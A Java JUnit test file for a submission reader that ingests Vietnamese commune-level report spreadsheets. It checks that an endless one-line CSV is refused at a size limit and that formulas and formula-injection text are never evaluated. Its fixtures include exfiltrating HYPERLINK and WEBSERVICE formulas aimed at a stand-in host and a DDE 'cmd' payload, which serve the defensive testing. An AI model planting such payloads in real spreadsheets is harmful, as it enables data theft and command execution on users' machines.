package vn.diemtua.ingest.read;

import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFRow;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import vn.diemtua.model.SubmissionKey;

import java.io.InputStream;
import java.nio.charset.StandardCharsets;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static vn.diemtua.ingest.read.ReadSupport.bytes;
import static vn.diemtua.ingest.read.ReadSupport.csv;
import static vn.diemtua.ingest.read.ReadSupport.read;
import static vn.diemtua.ingest.read.ReadSupport.row;

/** Input built to hurt: endless lines, formulas, text that spreadsheets would run. */
class HostileInputTest {
    /** A CSV of one endless line: a header start, then letters, {@code size} bytes in all, made as read. */
    private static final class OneLongLine extends InputStream {
        private final byte[] head = "Mã xã,Tên xã,".getBytes(StandardCharsets.UTF_8);
        private final long size;
        private long position;

        OneLongLine(long size) {
            this.size = size;
        }

        @Override
        public int read() {
            if (position >= size) {
                return -1;
            }
            byte b = position < head.length ? head[(int) position] : (byte) 'a';
            position++;
            return b & 0xFF;
        }

        @Override
        public int read(byte[] buffer, int offset, int length) {
            if (position >= size) {
                return -1;
            }
            int n = (int) Math.min(length, size - position);
            for (int i = 0; i < n; i++) {
                buffer[offset + i] = position < head.length ? head[(int) position] : (byte) 'a';
                position++;
            }
            return n;
        }
    }

    @Test
    void aGigabyteInOneLineIsRefusedAtTheSizeLimitNotReadWhole() {
        OneLongLine gigabyte = new OneLongLine(1L << 30);
        UnreadableFileException e = assertThrows(UnreadableFileException.class,
                () -> new SubmissionReader(ReadLimits.DEFAULTS).read("one_line.csv", gigabyte));
        assertEquals("FILE_TOO_LARGE", e.reasonCode());
        assertTrue(gigabyte.position <= ReadLimits.DEFAULTS.maxFileBytes() + 256 * 1024,
                "stopped at the limit: " + gigabyte.position + " bytes read of " + (1L << 30));
    }

    @Test
    void formulasGiveTheValueTheSenderSawAndAreNeverEvaluated() throws Exception {
        XSSFWorkbook workbook = new XSSFWorkbook();
        XSSFSheet sheet = workbook.createSheet("Xã");
        XSSFRow header = sheet.createRow(0);
        String[] headers = {"Mã xã", "Tên xã", "Kỳ báo cáo", "Số vụ phạm tội phát hiện", "Số vụ cháy, nổ"};
        for (int i = 0; i < headers.length; i++) {
            header.createCell(i).setCellValue(headers[i]);
        }
        XSSFRow unit = sheet.createRow(1);
        unit.createCell(0).setCellValue(4);
        XSSFCell name = unit.createCell(1);
        name.setCellFormula("HYPERLINK(\"http://example.invalid/steal\",\"Phường Trúc Bạch\")");
        name.setCellValue("Phường Trúc Bạch");
        unit.createCell(2).setCellValue("10/2023");
        XSSFCell detected = unit.createCell(3);
        detected.setCellFormula("2+2");
        detected.setCellValue(7);
        XSSFCell fires = unit.createCell(4);
        fires.setCellFormula("WEBSERVICE(\"http://example.invalid/\"&A2)");
        fires.setCellValue(0);
        assertEquals(CellType.FORMULA, detected.getCellType(), "the cell keeps its formula, 7 is only its cached value");

        SourceRow read = row(read("formulas.xlsx", bytes(workbook)).sheets().get(0), 2);
        assertEquals(new RawCell("7", CellKind.NUMBER), read.cells().get(SubmissionKey.TOI_PHAM_PHAT_HIEN),
                "the cached 7, not 2+2");
        assertEquals(RawCell.text("Phường Trúc Bạch"), read.cells().get(SubmissionKey.TEN_XA));
        assertEquals(new RawCell("0", CellKind.NUMBER), read.cells().get(SubmissionKey.CHAY_NO_VU));
    }

    @Test
    void textThatASpreadsheetWouldRunStaysText() throws Exception {
        SheetResult sheet = csv("Mã xã,Tên xã,Kỳ báo cáo,Số vụ cháy nổ\n"
                + "=1+1,\"=HYPERLINK(\"\"http://example.invalid\"\",\"\"x\"\")\",10/2023,+1\n"
                + "@SUM(A1),-cmd|' /C calc'!A0,10/2023,-\n");
        assertEquals(RawCell.text("=1+1"), row(sheet, 2).cells().get(SubmissionKey.MA_XA));
        assertEquals(RawCell.text("=HYPERLINK(\"http://example.invalid\",\"x\")"), row(sheet, 2).cells().get(SubmissionKey.TEN_XA));
        assertEquals(RawCell.text("@SUM(A1)"), row(sheet, 3).cells().get(SubmissionKey.MA_XA));
        assertEquals("-cmd|' /C calc'!A0", row(sheet, 3).rawCells().get(1));
    }
}
